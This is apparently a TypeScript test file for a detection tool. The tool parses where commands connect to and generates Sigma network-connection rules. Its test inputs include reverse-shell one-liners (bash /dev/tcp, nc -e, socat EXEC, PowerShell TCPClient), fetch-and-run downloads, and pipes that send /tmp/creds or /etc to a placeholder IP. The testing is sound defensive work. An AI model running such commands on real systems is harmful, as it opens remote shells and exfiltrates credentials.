import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { destinationsOf } from './process-destinations';

const article = { title: 'Quill intrusion notes', url: 'https://notes.example.org/quill', date: '2026-11-28' };
const evidence = { start: 0, end: 1, text: 'x' };

const connectionRule = (platform: BuiltinSigmaInput['platform'], ...values: string[]) =>
  generateBuiltinRules({ article, platform, cmdlines: values.map((value) => ({ evidence, confidence: 0.9, value, executable: '' })) }).find(
    (draft) => draft.telemetryClass === 'network_connection' && draft.rule.title.endsWith('Network Connection'),
  );
const fires = (rule: object | undefined, value: string) =>
  selfTestRule(rule as Record<string, unknown>, [{ type: 'cmdline', value }]).fires;

describe('where a program run connects to', () => {
  it("reads each URL's host and port, and finger's query host on port 79", () => {
    expect(destinationsOf('curl https://quill.example.net:8443/a http://198.51.100.9/b', 'curl.exe')).toEqual([
      { host: 'quill.example.net', port: 8443, address: false },
      { host: '198.51.100.9', port: 80, address: true },
    ]);
    expect(destinationsOf('finger loader@quill.example.net', 'C:\\Windows\\System32\\finger.exe')).toEqual([
      { host: 'quill.example.net', port: 79, address: false },
    ]);
    expect(destinationsOf('echo https://quill.example.net/', 'echo')).toEqual([]);
  });
});

describe('network-connection rules on the programs the commands make reach out', () => {
  it('keys a built-in that should not be on the network on the program, and on its port when not a web port', () => {
    const rule = connectionRule('windows', 'cmd /c "for /f "skip=8" %h in (\'finger loader@quill.example.net\') do call %h"');
    expect(rule?.rule.detection['selection']).toEqual({ 'Image|endswith': '\\finger.exe', DestinationPort: 79 });
    expect(fires(rule?.rule, 'finger other@c2.example.org')).toBe(true);
    const mshta = connectionRule('windows', 'mshta https://quill.example.net/run.hta');
    expect(mshta?.rule.detection['selection']).toEqual({ 'Image|endswith': '\\mshta.exe' });
    expect(fires(mshta?.rule, 'mshta http://other.example.org/x.hta')).toBe(true);
  });

  it('leaves a download over the web to the indicator and process rules, and CDNs out', () => {
    expect(connectionRule('windows', 'powershell -c "iwr https://quill-updates.example.net/s.ps1 | iex"')).toBeUndefined();
    expect(connectionRule('linux', 'nc github.com 9999')).toBeUndefined();
  });
});

describe('raw sockets of reverse shells and transfers', () => {
  it('reads bash /dev/tcp, PowerShell TCPClient, socat and netcat (not a listener)', () => {
    expect(destinationsOf('bash -i >& /dev/tcp/198.51.100.9/4444 0>&1', '/usr/bin/bash')).toEqual([
      { host: '198.51.100.9', port: 4444, address: true },
    ]);
    expect(destinationsOf("$c = New-Object Net.Sockets.TCPClient('quill.example.net', 8443)", 'powershell.exe')).toEqual([
      { host: 'quill.example.net', port: 8443, address: false },
    ]);
    expect(destinationsOf('socat TCP:quill.example.net:9001 EXEC:/bin/sh', '/usr/bin/socat')).toEqual([
      { host: 'quill.example.net', port: 9001, address: false },
    ]);
    expect(destinationsOf('nc -e /bin/sh 198.51.100.9 9999', '/usr/bin/nc')).toEqual([{ host: '198.51.100.9', port: 9999, address: true }]);
    expect(destinationsOf('nc -nv 198.51.100.9 9999', '/usr/bin/nc')).toEqual([{ host: '198.51.100.9', port: 9999, address: true }]);
    expect(destinationsOf('nc -lvp 4444', '/usr/bin/nc')).toEqual([]);
  });

  it('keys the program, the address and the port it reached', () => {
    const rule = connectionRule('linux', 'cat /tmp/creds | nc 198.51.100.9 9999');
    expect(
      connectionRule('windows', 'powershell -c "$c = New-Object Net.Sockets.TCPClient(\'quill.example.net\', 8443)"')?.rule.detection[
        'selection'
      ],
    ).toEqual({
      'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'],
      DestinationHostname: ['quill.example.net'],
      DestinationPort: 8443,
    });
    expect(rule?.rule.detection['selection']).toEqual({ 'Image|endswith': '/nc', DestinationIp: ['198.51.100.9'], DestinationPort: 9999 });
    expect(fires(rule?.rule, 'tar cz /etc | nc 198.51.100.9 9999')).toBe(true);
    expect(fires(rule?.rule, 'tar cz /etc | nc 198.51.100.9 80')).toBe(false);
  });
});
